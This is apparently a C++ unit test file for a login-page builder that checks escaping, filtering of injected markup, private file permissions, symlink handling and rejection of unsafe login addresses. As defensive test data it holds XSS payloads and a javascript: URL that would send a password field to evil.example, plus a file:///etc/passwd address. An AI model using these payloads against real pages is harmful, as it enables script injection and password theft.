#include "networks/login.h"
#include "support/tempdir.h"
#include "text/codec.h"

#include "base/files.h"

#include <gtest/gtest.h>

#include <sys/stat.h>

namespace pw {
namespace {

std::unique_ptr<TNetwork> Network(std::string name, std::vector<std::string> logins = {})
{
    auto network = std::make_unique<TNetwork>();
    network->Name = std::move(name);
    for (const std::string& login : logins)
        network->SetLogin(login, "u-" + login, "p-" + login);
    return network;
}

TEST(BuildLoginMenu, NumbersOnlyNetworksWithLogins)
{
    NetworkList networks;
    networks.push_back(Network("A"));
    networks.push_back(Network("B", { "P" }));
    networks.push_back(Network("C", { "P" }));
    const LoginMenu menu = BuildLoginMenu(networks);
    ASSERT_EQ(menu.Items.size(), 2u);
    EXPECT_EQ(menu.Items[0].Caption, "[&1]B");
    EXPECT_EQ(menu.Items[0].Login, networks[1]->FindLogin("P"));
    EXPECT_TRUE(menu.Items[0].SubItems.empty());
    EXPECT_EQ(menu.Items[1].Caption, "[&2]C");
    EXPECT_TRUE(menu.LoginEnabled);
    EXPECT_EQ(menu.NetworkChoice, (std::vector<std::string> { "A", "B", "C", std::string(kOtherNetworkName) }));
    EXPECT_EQ(codec::DecodeSjis(kOtherNetworkName), "その他");
}

TEST(BuildLoginMenu, NoLoginsDisablesTheButton)
{
    NetworkList networks;
    networks.push_back(Network("A"));
    const LoginMenu menu = BuildLoginMenu(networks);
    EXPECT_TRUE(menu.Items.empty());
    EXPECT_FALSE(menu.LoginEnabled);
    EXPECT_EQ(menu.NetworkChoice.size(), 2u);
    NetworkList none;
    EXPECT_EQ(BuildLoginMenu(none).NetworkChoice, (std::vector<std::string> { std::string(kOtherNetworkName) }));
}

TEST(BuildLoginMenu, SeveralLoginsBecomeSubItemsInLoginOrder)
{
    const std::string basic = "\x8A\xEE\x96{\x90\xDD\x92\xE8",
                      second = "\x90\xDD\x92\xE8"
                               "2"; // 設定2
    NetworkList networks;
    networks.push_back(Network("A", { basic, second }));
    const LoginMenu menu = BuildLoginMenu(networks);
    ASSERT_EQ(menu.Items.size(), 1u);
    EXPECT_EQ(menu.Items[0].Login, nullptr);
    ASSERT_EQ(menu.Items[0].SubItems.size(), 2u);
    EXPECT_EQ(menu.Items[0].SubItems[0].Caption, basic);
    EXPECT_EQ(menu.Items[0].SubItems[1].Caption, second);
    EXPECT_EQ(menu.Items[0].SubItems[1].Login->User, "u-" + second);
}

TEST(BuildLoginMenu, TenthItemIsNumberedTen)
{
    NetworkList networks;
    for (int i = 0; i < 11; ++i)
        networks.push_back(Network("N" + std::to_string(i), { "P" }));
    const LoginMenu menu = BuildLoginMenu(networks);
    ASSERT_EQ(menu.Items.size(), 11u);
    EXPECT_EQ(menu.Items[9].Caption, "[&10]N9");
    EXPECT_EQ(menu.Items[10].Caption, "[&11]N10");
}

TEST(BuildLoginMenu, ParsesEveryNetworksRegist)
{
    NetworkList networks;
    networks.push_back(Network("A"));
    networks[0]->Regist = "f:EMail=m; ";
    BuildLoginMenu(networks);
    ASSERT_TRUE(networks[0]->Forms);
    EXPECT_EQ(networks[0]->Forms->size(), 1u);
}

TEST(LoginPage, SevenLinesWithTheStoredValues)
{
    auto network = Network("A");
    network->LoginURL = "https://a.example/login";
    network->FieldUser = "uid";
    network->FieldPassword = "pwd";
    network->FieldOthers = "<input type=hidden name=x value=1><input type=hidden name=y value=2>";
    TLoginInfo& login = network->SetLogin("P", "me", "secret");
    const std::string page = BuildLoginPage(login);
    EXPECT_EQ(page,
        "<html><head><meta charset=\"Shift_JIS\"></head><body><form name=fm method=post "
        "action=\"https://a.example/login\">\r\n"
        "<input type=hidden name=uid value=\"me\">\r\n"
        "<input type=hidden name=pwd value=\"secret\">\r\n"
        "<input type=hidden name=x value=1><input type=hidden name=y value=2>\r\n"
        "</form><script defer>\r\n"
        "document.fm.submit();\r\n"
        "</script><noscript>"
        "JavaScript\x82\xCC\x90\xDD\x92\xE8\x82\xF0\x83I\x83\x93\x82\xC9\x82\xB5\x82\xC4\x89\xBA\x82\xB3"
        "\x82\xA2\x81"
        "B</NOSCRIPT></body></html>\r\n");
    EXPECT_NE(codec::DecodeSjis(page).find("JavaScriptの設定をオンにして下さい。"), std::string::npos);

    network->FieldOthers.clear();
    const std::string empty = BuildLoginPage(login);
    EXPECT_NE(empty.find("value=\"secret\">\r\n\r\n</form>"), std::string::npos); // line 4 is empty
}

TEST(LoginPage, StoredValuesCannotBreakOutOfTheirAttributes)
{
    auto network = Network("A");
    network->LoginURL = "https://a/?a=1&b=\"><script>";
    network->FieldUser = "user";
    network->FieldPassword = "password";
    TLoginInfo& login = network->SetLogin("P", "<b>me</b>", "pa\"ss&<>");
    const std::string page = BuildLoginPage(login);
    EXPECT_NE(page.find("action=\"https://a/?a=1&amp;b=&quot;&gt;&lt;script&gt;\">"), std::string::npos);
    EXPECT_NE(page.find("value=\"&lt;b&gt;me&lt;/b&gt;\">"), std::string::npos);
    EXPECT_NE(page.find("value=\"pa&quot;ss&amp;&lt;&gt;\">"), std::string::npos);
    EXPECT_EQ(page.find("<script>"), std::string::npos);
    // Shift_JIS text is left as it is (no trail byte takes one of the escaped values).
    EXPECT_EQ(EscapeAttribute("\x83\x5C\x95\x5C"), "\x83\x5C\x95\x5C"); // ソ表
}

// FieldOthers comes with the definitions file: the login page keeps its
// hidden inputs (name and value) and nothing else, so it cannot run script
// nor send the form, with the password, elsewhere.
TEST(LoginPage, FieldOthersKeepsOnlyHiddenInputs)
{
    struct Case {
        const char* name;
        std::string fieldOthers;
        std::string kept;
        std::vector<std::string> dropped;
    };
    const std::vector<Case> cases = {
        { "PlainInputsAsTheyWere", "<input type=hidden name=x value=1><input type=hidden name=y value=2>",
            "<input type=hidden name=x value=1><input type=hidden name=y value=2>", {} },
        { "QuotesCaseAndReferences", "<INPUT TYPE=\"Hidden\" NAME='tok' VALUE=\"a&amp;b&c\" />",
            "<input type=hidden name=tok value=\"a&amp;b&amp;c\">", {} },
        { "Script", "<script>document.fm.action='https://evil.example/'</script>", "",
            { "<script>document.fm.action='https://evil.example/'</script>" } },
        { "MarkupInsideAScriptIsNotAnInput", "<script>var s=\"<input type=hidden name=z value=1>\";</script>", "",
            { "<script>var s=\"<input type=hidden name=z value=1>\";</script>" } },
        { "EventHandlerAndFormActionOfAHiddenInput",
            "<input type=hidden name=a value=1 onfocus=\"steal()\" formaction=https://evil.example/>",
            "<input type=hidden name=a value=1>",
            { "<input type=hidden name=a value=1 onfocus=\"steal()\" formaction=https://evil.example/>" } },
        { "OtherInputsAndElements",
            "<input type=text name=t value=1><input type=hidden value=1><img src=x onerror=alert(1)>"
            "<form action=https://evil.example/><input type=hidden name=k value=v></form>",
            "<input type=hidden name=k value=v>",
            { "<input type=text name=t value=1>", "<input type=hidden value=1>", "<img src=x onerror=alert(1)>",
                "<form action=https://evil.example/>", "</form>" } },
        { "ValuesThatTryToBreakOut", "<input type=hidden name='a\"><script>' value='\"><script>x()</script>'>",
            "<input type=hidden name=\"a&quot;&gt;&lt;script&gt;\" "
            "value=\"&quot;&gt;&lt;script&gt;x()&lt;/script&gt;\">",
            {} },
        { "TextAndComments",
            "before <input type=hidden name=a value=1> <!-- <input type=hidden name=c value=2> --> after",
            "<input type=hidden name=a value=1>",
            { "before", "<!-- <input type=hidden name=c value=2> -->", "after" } },
        { "UnterminatedTag", "<input type=hidden name=a value=1><input type=hidden name=b value=2",
            "<input type=hidden name=a value=1>", { "<input type=hidden name=b value=2" } },
        { "ShiftJisValue", "<input type=hidden name=n value=\"\x95\x5C\">",
            "<input type=hidden name=n value=\"\x95\x5C\">", {} },
        { "Empty", "", "", {} },
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        const LoginFormFields fields = FilterFieldOthers(c.fieldOthers);
        EXPECT_EQ(fields.Html, c.kept);
        EXPECT_EQ(fields.Dropped, c.dropped);

        auto network = Network("A");
        network->LoginURL = "https://a.example/login";
        network->FieldUser = "uid";
        network->FieldPassword = "pwd";
        network->FieldOthers = c.fieldOthers;
        const std::string page = BuildLoginPage(network->SetLogin("P", "me", "secret"));
        EXPECT_NE(page.find("value=\"secret\">\r\n" + c.kept + "\r\n</form><script defer>\r\n"), std::string::npos)
            << page;
        EXPECT_EQ(page.find("evil"), std::string::npos);
    }
}

TEST(LoginPage, FieldNamesFromTheDefinitionsCannotAddMarkup)
{
    auto network = Network("A");
    network->FieldUser = "u\"><script>x()</script><x a=\"";
    network->FieldPassword = "pw";
    const std::string page = BuildLoginPage(network->SetLogin("P", "me", "secret"));
    EXPECT_EQ(page.find("<script>x"), std::string::npos) << page;
    EXPECT_NE(page.find("<input type=hidden name=\"u&quot;&gt;&lt;script&gt;x()&lt;/script&gt;&lt;x a=&quot;\" "
                        "value=\"me\">"),
        std::string::npos)
        << page;
    EXPECT_NE(page.find("<input type=hidden name=pw value=\"secret\">"), std::string::npos);
}

mode_t ModeOf(const std::string& path)
{
    struct stat st { };
    ::stat(path.c_str(), &st);
    return st.st_mode & 0777;
}

class RecordingBrowser : public LoginBrowser {
public:
    std::vector<std::string> opened;
    Status OpenMaximised(const std::string& pageFile) override
    {
        opened.push_back(pageFile);
        return Status::Ok();
    }
};

TEST(OpenLogin, WritesAPrivatePageThenOpensIt)
{
    test::TempDir dir;
    const std::string path = dir.file("pw1234.html");
    ASSERT_TRUE(WriteFileAtomically(path, "an older and much longer page content").ok);
    ::chmod(path.c_str(), 0644);

    auto network = Network("A", { "P" });
    network->LoginURL = "https://a.example/login";
    RecordingBrowser browser;
    ASSERT_TRUE(OpenLogin(*network->FindLogin("P"), path, browser).ok);
    std::string written;
    ASSERT_TRUE(ReadWholeFile(path, written).ok);
    EXPECT_EQ(written, BuildLoginPage(*network->FindLogin("P")));
    EXPECT_EQ(ModeOf(path), 0600u);
    EXPECT_EQ(browser.opened, (std::vector<std::string> { path }));
}

// The page holds a password: a link at its name (planted, or left over) is
// replaced by a new private file, never written through.
TEST(OpenLogin, ALinkAtThePageNameIsReplacedNeverFollowed)
{
    test::TempDir dir;
    const std::string victim = dir.file("victim");
    ASSERT_TRUE(WriteFileAtomically(victim, "precious").ok);
    ::chmod(victim.c_str(), 0644);
    const std::string path = dir.file("pwh1.html");
    ASSERT_EQ(::symlink(victim.c_str(), path.c_str()), 0);

    auto network = Network("A", { "P" });
    network->LoginURL = "https://a.example/login";
    RecordingBrowser browser;
    ASSERT_TRUE(OpenLogin(*network->FindLogin("P"), path, browser).ok);
    std::string written;
    ASSERT_TRUE(ReadWholeFile(victim, written).ok);
    EXPECT_EQ(written, "precious");
    EXPECT_EQ(ModeOf(victim), 0644u);
    struct stat st { };
    ASSERT_EQ(::lstat(path.c_str(), &st), 0);
    EXPECT_TRUE(S_ISREG(st.st_mode));
    EXPECT_EQ(st.st_mode & 0777, 0600u);
}

TEST(OpenLogin, AFailedWriteOpensNoWindow)
{
    auto network = Network("A", { "P" });
    network->LoginURL = "https://a.example/login";
    RecordingBrowser browser;
    EXPECT_FALSE(OpenLogin(*network->FindLogin("P"), "/nonexistent-folder/x/pw.html", browser).ok);
    EXPECT_TRUE(browser.opened.empty());
}

// The login page posts the password to the network's address and runs in the
// browser: an address that is a script, a local file or has no host would
// hand the password (and the page's rights) to whoever wrote it. Whether it
// came from a definitions file or was typed in the networks dialog, such a
// login writes no page and opens no window.
TEST(OpenLogin, AnAddressThatIsNotHttpWithAHostIsRefused)
{
    const std::string refused[] = {
        "",
        "javascript:fetch('https://evil.example/?'+document.forms[0].pw.value)",
        " JavaScript:alert(1)",
        "java\tscript:alert(1)",
        "file:///etc/passwd",
        "//evil.example/login",
        "data:text/html,<script>alert(1)</script>",
        "https://",
        "http:/evil.example/",
        "login.php",
        "https://a.example:99999/",
        "https://a.example:8x/",
    };
    test::TempDir dir;
    for (const std::string& url : refused) {
        SCOPED_TRACE(url);
        auto network = Network("A", { "P" });
        network->LoginURL = url;
        RecordingBrowser browser;
        const std::string path = dir.file("pw.html");
        const Status opened = OpenLogin(*network->FindLogin("P"), path, browser);
        EXPECT_FALSE(opened.ok);
        EXPECT_NE(codec::DecodeSjis(opened.error).find("http: または https:"), std::string::npos) << opened.error;
        EXPECT_TRUE(browser.opened.empty());
        EXPECT_FALSE(FileExists(path));
    }
    for (const std::string url :
        { "https://a.example/login", "HTTP://A.Example:8080/x?y=1", "http://[::1]:80/" }) {
        auto network = Network("A", { "P" });
        network->LoginURL = url;
        EXPECT_TRUE(CheckLoginAddress(*network->FindLogin("P")).ok) << url;
    }
}

} // namespace
} // namespace pw
